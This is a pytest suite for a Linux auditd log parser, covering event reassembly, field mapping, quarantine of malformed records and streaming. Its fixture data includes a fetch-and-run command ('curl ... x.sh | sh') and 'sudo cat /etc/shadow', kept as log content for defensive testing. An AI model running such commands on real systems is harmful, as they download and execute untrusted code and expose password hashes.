"""Linux auditd: reassembly of multi-record events, field mapping, and broken input."""

from __future__ import annotations

import gzip
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from auditlake.errors import RecordError
from auditlake.sources import auditd, auditd_events
from auditlake.sources.base import Frame, Row
from auditlake.sources.records import Rejected, normalize_frames
from auditlake.sources.table import rows_to_table

DATA = Path(__file__).parent / "data" / "auditd"

EXECVE_EVENT = (
    b'type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 success=yes exit=0 '
    b'a0=55d1 a1=55d2 a2=55d3 a3=0 items=1 ppid=2686 pid=3538 auid=1000 uid=1000 gid=1000 euid=0 '
    b'tty=pts0 ses=1 comm="sudo" exe="/usr/bin/sudo" key="privileged"\n'
    b'type=EXECVE msg=audit(1364481363.243:24287): argc=3 a0="sudo" a1="cat" a2="/etc/shadow"\n'
    b'type=PATH msg=audit(1364481363.243:24287): item=0 name="/usr/bin/sudo" nametype=NORMAL\n'
    b"type=EOE msg=audit(1364481363.243:24287):\n"
)
LOGIN_LINE = (
    b"type=USER_LOGIN msg=audit(1700000012.345:211): pid=2201 uid=0 auid=4294967295 "
    b"ses=4294967295 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? "
    b"addr=203.0.113.9 terminal=sshd res=failed'\n"
)


def _outputs(tmp_path: Path, content: bytes, name: str = "audit.log") -> list[Row | Rejected]:
    path = tmp_path / name
    path.write_bytes(content)
    return list(normalize_frames(auditd.SPEC, auditd.frames(path)))


def _rows(path: Path) -> list[Row]:
    out = list(normalize_frames(auditd.SPEC, auditd.frames(path)))
    rejected = [r for r in out if isinstance(r, Rejected)]
    assert not rejected, rejected
    return [r for r in out if not isinstance(r, Rejected)]


def _by_stamp(rows: list[Row]) -> dict[str, Row]:
    """Rows by their event's `<node>:<stamp>` (`correlation_id`); each fixture event is read whole."""
    by_stamp = {row["correlation_id"]: row for row in rows}
    assert len(by_stamp) == len(rows) == len({row["event_uid"] for row in rows})
    return by_stamp


def _event(*lines: str) -> Frame:
    return Frame("\n".join(lines).encode(), "test:1")


# ------------------------------------------------------------------------------ reassembly


def test_records_of_an_event_become_one_frame_in_their_original_order() -> None:
    frames = list(auditd.frames(DATA / "audit.log"))
    assert all(f.error is None for f in frames)
    assert len(frames) == 20
    by_location = {f.location: f for f in frames}
    execve = by_location["audit.log:10"].raw.decode().split("\n")
    assert [line.split(" ", 1)[0] for line in execve] == [
        "type=SYSCALL", "type=EXECVE", "type=CWD", "type=PATH", "type=PATH", "type=PROCTITLE",
        "type=EOE",
    ]


def test_interleaved_events_are_separated_by_their_stamp() -> None:
    frames = {f.location: f.raw.decode() for f in auditd.frames(DATA / "audit.log")}
    first, second = frames["audit.log:25"], frames["audit.log:26"]
    assert all(":250):" in line for line in first.split("\n"))
    assert all(":251):" in line for line in second.split("\n"))
    assert first.count("\n") + 1 == 5 and second.count("\n") + 1 == 6
    assert second.split("\n")[2].startswith("type=PATH") and "nametype=PARENT" in second


def test_frames_come_out_in_the_order_of_their_first_line() -> None:
    locations = [int(f.location.split(":")[1]) for f in auditd.frames(DATA / "audit.log")]
    assert locations == sorted(locations)


def test_eoe_closes_an_event_before_the_input_goes_on() -> None:
    consumed: list[int] = []

    def lines() -> Iterator[bytes]:
        for number, line in enumerate(EXECVE_EVENT.splitlines(keepends=True) * 1, start=1):
            consumed.append(number)
            yield line
        for number in range(5, 50):
            consumed.append(number)
            yield LOGIN_LINE.replace(b":211)", f":{1000 + number})".encode())

    stream = auditd_events.frame_lines(lines(), "live")
    first = next(stream)
    assert first.raw.count(b"\n") == 3 and first.location == "live:1"
    assert len(consumed) == 4  # yielded right at the EOE line, nothing read past it


def test_event_without_eoe_closes_after_n_lines_of_other_events() -> None:
    a = b"type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=2 success=yes\n"
    others = [LOGIN_LINE.replace(b":211)", f":{100 + i})".encode()) for i in range(3)]
    late = b"type=CWD msg=audit(1700000000.000:1): cwd=\"/\"\n"
    frames = list(auditd_events.frame_lines([a, *others, late], "x", stale_after=3))
    assert [f.location for f in frames] == ["x:1", "x:2", "x:3", "x:4", "x:5"]
    assert frames[0].raw == a.rstrip() and frames[-1].raw == late.rstrip()


def test_end_of_input_flushes_open_events() -> None:
    lines = [*EXECVE_EVENT.splitlines(keepends=True)[:3], LOGIN_LINE]
    frames = list(auditd_events.frame_lines(lines, "x"))
    assert [f.raw.count(b"\n") + 1 for f in frames] == [3, 1]
    assert all(f.error is None for f in frames)


def test_same_stamp_on_two_nodes_is_two_events() -> None:
    rows = _by_stamp(_rows(DATA / "node.log"))
    assert set(rows) == {"web1:1700000100.000:500", "web2:1700000100.000:500", "web1:1700000101.500:501"}
    assert all(row["event_uid"].startswith(stamp + "/") for stamp, row in rows.items())
    web2 = rows["web2:1700000100.000:500"]
    assert web2["host"] == "web2" and web2["cmdline"] == "whoami" and web2["actor_id"] == "1002"


def test_gzip_input_reads_like_the_plain_file() -> None:
    plain = [(f.raw, f.location) for f in auditd.frames(DATA / "audit.log")]
    zipped = [(f.raw, f.location.replace(".gz", "")) for f in auditd.frames(DATA / "audit.log.gz")]
    assert zipped == plain


def test_sniff_recognises_audit_lines_only() -> None:
    assert auditd.sniff((DATA / "audit.log").read_bytes()[:4096])
    assert auditd.sniff(b"\n\nnode=web1 type=EOE msg=audit(1700000100.000:500):\n")
    assert not auditd.sniff(b'{"eventSource": "s3.amazonaws.com"}\n')
    assert not auditd.sniff(b"Mar  1 10:00:00 host sshd[1]: Accepted password for alice\n")
    assert not auditd.sniff(b"")


def test_spec_names_the_source() -> None:
    assert auditd.SPEC.name == "linux.auditd" == auditd.NAME
    assert auditd.SPEC.aliases == ("auditd", "linux")
    assert auditd.SPEC.raw_format == "auditd-kv" and auditd.SPEC.detect is None


# ------------------------------------------------------------------------------ mapping


@pytest.fixture(scope="module")
def fixture_rows() -> dict[str, Row]:
    return _by_stamp(_rows(DATA / "audit.log"))


def test_execve_event_maps_who_what_when(fixture_rows: dict[str, Row]) -> None:
    row = fixture_rows[":1364481363.243:24287"]
    assert row["time"] == datetime(2013, 3, 28, 14, 36, 3, 243000, tzinfo=UTC)
    assert (row["actor_id"], row["actor_type"], row["session_id"]) == ("1000", "user", "1")
    assert row["action"] == "SYSCALL:execve" and row["SYSCALL"] == "execve"
    assert (row["class_uid"], row["activity_id"], row["category"]) == (1007, 1, "process")
    assert row["outcome"] == "success" and row["target_name"] == "/usr/bin/sudo"
    assert row["cmdline"] == "sudo cat /etc/shadow" and row["proctitle"] == "sudo cat /etc/shadow"
    assert (row["EXECVE.a0"], row["EXECVE.a1"], row["EXECVE.a2"]) == ("sudo", "cat", "/etc/shadow")
    assert row["a0"] == "55d1c0a3e2b8"  # plain a0..a3 stay the SYSCALL registers
    assert (row["type"], row["exe"], row["comm"], row["key"], row["euid"]) == (
        "SYSCALL", "/usr/bin/sudo", "sudo", "privileged", "0")
    assert json.loads(row["record_types"]) == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE"]
    assert json.loads(row["PATH.name"]) == ["/usr/bin/sudo", "/lib64/ld-linux-x86-64.so.2"]
    assert row["name"] == "/usr/bin/sudo" and row["cwd"] == "/home/alice"
    assert row["raw_format"] == "auditd-kv" and row["raw"].startswith("type=SYSCALL")


def test_hex_arguments_are_decoded_and_a_daemon_is_a_service(fixture_rows: dict[str, Row]) -> None:
    row = fixture_rows[":1700000040.777:240"]
    assert row["EXECVE.a2"] == "curl -s http://203.0.113.7/x.sh | sh"
    assert row["proctitle"] == "bash -c curl -s http://203.0.113.7/x.sh | sh"
    assert (row["actor_id"], row["actor_type"], row["session_id"]) == ("33", "service", None)


def test_ssh_logins_map_source_address_account_and_outcome(fixture_rows: dict[str, Row]) -> None:
    failed_auth = fixture_rows[":1700000010.101:210"]
    assert (failed_auth["action"], failed_auth["class_uid"], failed_auth["category"]) == (
        "USER_AUTH", 3002, "authentication")
    assert (failed_auth["actor_name"], failed_auth["src_ip"], failed_auth["outcome"]) == (
        "bob", "203.0.113.9", "failure")
    assert failed_auth["actor_id"] is None  # uid=0 is sshd itself, not the one logging in
    invalid = fixture_rows[":1700000012.345:211"]
    assert invalid["acct"] == "(invalid user)" and invalid["outcome"] == "failure"
    login = fixture_rows[":1700000020.612:222"]
    assert (login["actor_id"], login["session_id"], login["src_ip"], login["outcome"]) == (
        "1000", "7", "10.0.0.5", "success")
    assert login["src_host"] is None  # hostname only repeats the address
    assert login["terminal"] == "/dev/pts/1" and login["op"] == "login"


def test_sudo_command_is_decoded(fixture_rows: dict[str, Row]) -> None:
    row = fixture_rows[":1700000030.100:230"]
    assert (row["action"], row["class_uid"], row["cmd"]) == ("USER_CMD", 1007, "cat /etc/shadow")
    assert row["actor_id"] == "1000" and row["outcome"] == "success"


def test_config_change_riding_on_a_syscall_is_log_admin(fixture_rows: dict[str, Row]) -> None:
    row = fixture_rows[":1700000060.300:260"]
    assert (row["action"], row["class_uid"], row["category"]) == ("CONFIG_CHANGE", 1008, "log_admin")
    assert row["type"] == "SYSCALL" and row["op"] == "add_rule"
    assert row["key"] == "identity"  # the SYSCALL's key=(null) does not hide the rule's key
    disable = fixture_rows[":1700000061.000:261"]
    assert (disable["audit_enabled"], disable["old"], disable["outcome"]) == ("0", "1", "success")
    assert fixture_rows[":1700000000.000:3561"]["actor_type"] == "system"  # DAEMON_START


def test_account_changes_name_the_account(fixture_rows: dict[str, Row]) -> None:
    adding = fixture_rows[":1700000070.400:270"]
    assert adding["op"] == "adding user" and adding["id"] == "1001"
    added = fixture_rows[":1700000070.410:271"]
    assert (added["class_uid"], added["activity_id"], added["category"]) == (3001, 1, "iam")
    assert (added["target_type"], added["target_name"]) == ("user", "mallory")
    assert (added["actor_id"], added["actor_original"]) == ("0", "1000")  # useradd ran as root
    assert fixture_rows[":1700000080.000:280"]["activity_id"] == 6


def test_file_watch_events_name_the_object_and_the_errno(fixture_rows: dict[str, Row]) -> None:
    denied = fixture_rows[":1700000050.001:250"]
    assert (denied["class_uid"], denied["action"], denied["outcome"]) == (1001, "SYSCALL:openat", "failure")
    assert denied["outcome_reason"] == "EACCES" and denied["target_name"] == "/etc/passwd"
    deleted = fixture_rows[":1700000050.002:251"]
    assert deleted["target_name"] == "/tmp/x"  # the deleted file, not its PARENT directory
    assert json.loads(deleted["PATH.nametype"]) == ["PARENT", "DELETE"]


def test_enriched_records_give_names() -> None:
    rows = _by_stamp(_rows(DATA / "enriched.log"))
    insmod = rows[":1700000200.250:600"]
    assert (insmod["actor_id"], insmod["actor_name"], insmod["actor_original"]) == ("0", "root", "alice")
    assert (insmod["SYSCALL"], insmod["ARCH"], insmod["UID"], insmod["OUID"]) == (
        "execve", "x86_64", "root", "root")
    assert insmod["comm"] == "insmod" and insmod["exe"] == "/usr/bin/kmod" and insmod["key"] == "modules"
    login = rows[":1700000210.000:610"]
    assert (login["actor_name"], login["src_ip"], login["src_host"]) == (
        "alice", "198.51.100.20", "laptop.example.com")
    assert rows[":1700000199.000:4001"]["actor_name"] == "root"


def test_all_fixture_rows_fit_the_table_schema(fixture_rows: dict[str, Row]) -> None:
    rows = [*fixture_rows.values(), *_rows(DATA / "node.log"), *_rows(DATA / "enriched.log")]
    table = rows_to_table(rows)
    assert table.num_rows == 26
    assert "host" not in [n for n in table.column_names if n.startswith("PATH.")]


def test_numbers_are_not_mistaken_for_hex() -> None:
    row = auditd.normalize(_event(
        "type=SYSCALL msg=audit(1700000000.500:9): arch=c000003e syscall=135 success=yes exit=0 "
        'a0=40000 a1=0 a2=0 a3=0 items=0 ppid=1 pid=2 auid=1000 uid=1000 ses=2 comm="setarch" '
        'exe="/usr/bin/setarch" key=(null)',
    ))
    assert (row["a0"], row["SYSCALL"], row["action"], row["class_uid"]) == (
        "40000", "personality", "SYSCALL:personality", 0)


def test_unknown_arch_keeps_the_syscall_number() -> None:
    row = auditd.normalize(_event(
        "type=SYSCALL msg=audit(1700000000.500:9): arch=c00000b7 syscall=221 success=yes exit=0 "
        "auid=1000 uid=1000 ses=2",
    ))
    assert row["action"] == "SYSCALL:221" and "SYSCALL" not in row


def test_long_arguments_split_over_pieces_are_joined() -> None:
    piece = "A" * 4000
    hex_parts = [(piece[:2000] + " x").encode().hex().upper(), (piece[2000:] + " y").encode().hex().upper()]
    row = auditd.normalize(_event(
        "type=EXECVE msg=audit(1700000000.500:9): argc=2 a0=\"echo\" a1_len=8004 "
        f"a1[0]={hex_parts[0]}",
        f"type=EXECVE msg=audit(1700000000.500:9): a1[1]={hex_parts[1]}",
    ))
    assert row["EXECVE.a1"] == piece[:2000] + " x" + piece[2000:] + " y"
    assert row["cmdline"].startswith("echo AAAA") and row["class_uid"] == 1007


def test_canonical_names_never_become_native_columns() -> None:
    row = auditd.normalize(_event(
        "type=USER_MGMT msg=audit(1700000000.500:9): pid=1 uid=0 auid=1000 ses=2 "
        "msg='op=x host=evil action=y labels=z acct=\"bob\" res=success'",
    ))
    assert row.get("host") is None and row["action"] == "USER_MGMT" and "labels" not in row


# ------------------------------------------------------------------------------ bad input


def test_truncated_last_line_is_quarantined_and_the_rest_kept(tmp_path: Path) -> None:
    content = EXECVE_EVENT + LOGIN_LINE + b"type=SYSCALL msg=audit(1700000099.000:300): arch=c000"
    out = _outputs(tmp_path, content)
    rows = [r for r in out if not isinstance(r, Rejected)]
    rejected = [r for r in out if isinstance(r, Rejected)]
    assert len(rows) == 2 and len(rejected) == 1
    assert "truncated" in rejected[0].reason and rejected[0].location == "audit.log:6"
    assert rejected[0].raw.endswith(b"arch=c000")


def test_garbage_between_records_is_quarantined_line_by_line(tmp_path: Path) -> None:
    lines = EXECVE_EVENT.splitlines(keepends=True)
    garbage = [b"\x00\x00\x00 garbage from a crash\n", b"--- MARK ---\n", b"type=SYSCALL but no stamp\n"]
    out = _outputs(tmp_path, b"".join([lines[0], garbage[0], lines[1], garbage[1], *lines[2:], garbage[2], LOGIN_LINE]))
    kinds = [(type(r).__name__, r.location if isinstance(r, Rejected) else r["correlation_id"]) for r in out]
    assert kinds == [
        ("dict", ":1364481363.243:24287"), ("Rejected", "audit.log:2"), ("Rejected", "audit.log:4"),
        ("Rejected", "audit.log:7"), ("dict", ":1700000012.345:211"),
    ]
    execve = out[0]
    assert isinstance(execve, dict) and execve["cmdline"] == "sudo cat /etc/shadow"
    reasons = [r.reason for r in out if isinstance(r, Rejected)]
    assert reasons[0].startswith("not an audit record") and "stamp" in reasons[2]


def test_unparsable_stamp_is_quarantined(tmp_path: Path) -> None:
    bad = b"type=USER_LOGIN msg=audit(abc:12): pid=1 uid=0 msg='op=login res=success'\n"
    out = _outputs(tmp_path, LOGIN_LINE + bad + LOGIN_LINE.replace(b":211)", b":212)"))
    assert [type(r).__name__ for r in out] == ["dict", "Rejected", "dict"]
    rejected = out[1]
    assert isinstance(rejected, Rejected) and "unparsable stamp msg=audit(abc:12)" in rejected.reason


def test_stamp_time_out_of_range_is_a_record_error() -> None:
    with pytest.raises(RecordError, match=r"outside 1970\.\.2200"):
        auditd.normalize(_event("type=EOE msg=audit(99999999999.000:1):"))


def test_a_frame_mixing_events_is_a_record_error() -> None:
    with pytest.raises(RecordError, match="2 events in one frame"):
        auditd.normalize(_event("type=EOE msg=audit(1700000000.000:1):", "type=EOE msg=audit(1700000000.000:2):"))


def test_invalid_utf8_is_quarantined_and_neighbours_come_through(tmp_path: Path) -> None:
    bad = b'type=PATH msg=audit(1364481363.243:24287): item=1 name="/tmp/\xff\xfe" nametype=NORMAL\n'
    lines = EXECVE_EVENT.splitlines(keepends=True)
    out = _outputs(tmp_path, b"".join([*lines[:3], bad, lines[3], LOGIN_LINE]))
    assert [type(r).__name__ for r in out] == ["dict", "Rejected", "dict"]
    rejected = out[1]
    assert isinstance(rejected, Rejected) and rejected.reason.startswith("invalid UTF-8 at byte")
    assert rejected.raw == bad.rstrip(b"\n")


def test_unbalanced_quotes_are_quarantined(tmp_path: Path) -> None:
    bad = b"type=USER_CMD msg=audit(1700000030.100:230): pid=1 uid=1000 msg='cwd=\"/home/alice cmd=6C73\n"
    out = _outputs(tmp_path, bad + LOGIN_LINE)
    assert [type(r).__name__ for r in out] == ["Rejected", "dict"]
    assert "unbalanced quotes" in out[0].reason  # type: ignore[union-attr]


def test_a_very_large_field_is_ingested(tmp_path: Path) -> None:
    big = "x" * (5 << 20)
    record = f'type=EXECVE msg=audit(1700000000.100:77): argc=2 a0="echo" a1="{big}"\n'.encode()
    out = _outputs(tmp_path, record + LOGIN_LINE)
    assert [type(r).__name__ for r in out] == ["dict", "dict"]
    row = out[0]
    assert isinstance(row, dict) and row["EXECVE.a1"] == big and len(row["raw"]) > 5 << 20


def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
    packed = gzip.compress((EXECVE_EVENT + LOGIN_LINE) * 200, mtime=0)
    out = _outputs(tmp_path, packed[: len(packed) // 2], name="audit.log.gz")
    rows = [r for r in out if not isinstance(r, Rejected)]
    rejected = [r for r in out if isinstance(r, Rejected)]
    assert rows and rejected and "input ends early" in rejected[-1].reason


# ------------------------------------------------------------------------------ streaming


def _generated(lines: int, consumed: list[int]) -> Iterator[bytes]:
    """A busy host: execve events interleaved pairwise, and standalone login failures."""
    number = 0
    serial = 0
    while number < lines:
        serial += 3
        a, b = (f"{1700000000 + serial // 100}.{serial % 1000:03d}:{serial + k}" for k in (0, 1))
        block = [
            f'type=SYSCALL msg=audit({a}): arch=c000003e syscall=59 success=yes exit=0 a0=1 items=1 '
            f'ppid=1 pid={serial} auid=1000 uid=1000 ses=4 comm="ls" exe="/usr/bin/ls" key="exec"',
            f'type=SYSCALL msg=audit({b}): arch=c000003e syscall=2 success=no exit=-2 a0=1 items=1 '
            f'ppid=1 pid={serial + 1} auid=1000 uid=1000 ses=4 comm="cat" exe="/usr/bin/cat" key="w"',
            f'type=EXECVE msg=audit({a}): argc=2 a0="ls" a1="-la"',
            f'type=PATH msg=audit({b}): item=0 name="/etc/nope" nametype=NORMAL',
            f"type=PROCTITLE msg=audit({a}): proctitle=6C73002D6C61",
            f"type=EOE msg=audit({a}):",
            f"type=USER_AUTH msg=audit({1700000000 + serial // 100}.500:{serial + 2}): pid=9 uid=0 "
            "auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"bob\" "
            "exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.1 terminal=ssh res=failed'",
        ]
        for line in block:
            number += 1
            consumed[0] = number
            yield line.encode() + b"\n"


@pytest.mark.slow
def test_a_large_log_streams_in_bounded_memory_and_reasonably_fast() -> None:
    total_lines = 7 * 28_572  # just over 200k lines, whole blocks of seven
    consumed = [0]
    emitted_lines = 0
    backlog = 0
    rows = rejected = 0
    started = time.perf_counter()
    frames = auditd_events.frame_lines(_generated(total_lines, consumed), "big.log")

    def watched() -> Iterator[Frame]:
        nonlocal emitted_lines, backlog
        for frame in frames:
            emitted_lines += frame.raw.count(b"\n") + 1
            backlog = max(backlog, consumed[0] - emitted_lines)
            yield frame

    for out in normalize_frames(auditd.SPEC, watched()):
        if isinstance(out, Rejected):
            rejected += 1
        else:
            rows += 1
    elapsed = time.perf_counter() - started
    assert rejected == 0 and emitted_lines == total_lines
    assert rows == 3 * total_lines // 7
    assert backlog <= auditd_events.STALE_AFTER_LINES + 8  # only open events are ever held
    assert elapsed < 120, f"{rows / elapsed:.0f} events/s is far too slow"
